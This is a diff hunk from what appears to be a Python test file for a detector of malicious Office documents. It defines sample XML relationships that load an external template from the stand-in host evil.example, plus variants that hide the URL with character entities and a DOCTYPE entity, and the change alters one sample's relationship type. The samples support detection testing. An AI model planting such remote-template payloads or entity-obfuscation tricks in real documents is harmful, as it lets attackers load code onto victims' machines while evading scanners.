@@ -80,7 +80,7 @@ def twice(first: bytes, second: bytes) -> bytes:
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 an object"
 EVIL = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"'
 NAMED = f'<p:Relationships xmlns:p="urn:p"><p:Relationship {EVIL}/></p:Relationships>'
-SPLIT = '<R><Relationship Target="http://evil.example/?a>b" Type="http://x/attachedTemplate" TargetMode="External"/></R>'
+SPLIT = '<R><Relationship Target="http://evil.example/?a>b" Type="http://x/frame" TargetMode="External"/></R>'
 ENTITY = NAMED.replace("http://evil", "&#104;ttp://evil")
 DOCTYPE = '<!DOCTYPE R [<!ENTITY t "http://evil.example/">]>' + NAMED.replace("http://evil.example/", "&t;")
 OBJECT = '<R><Relationship Type="http://x/oleObject" Target="media/picture.dat"/></R>'
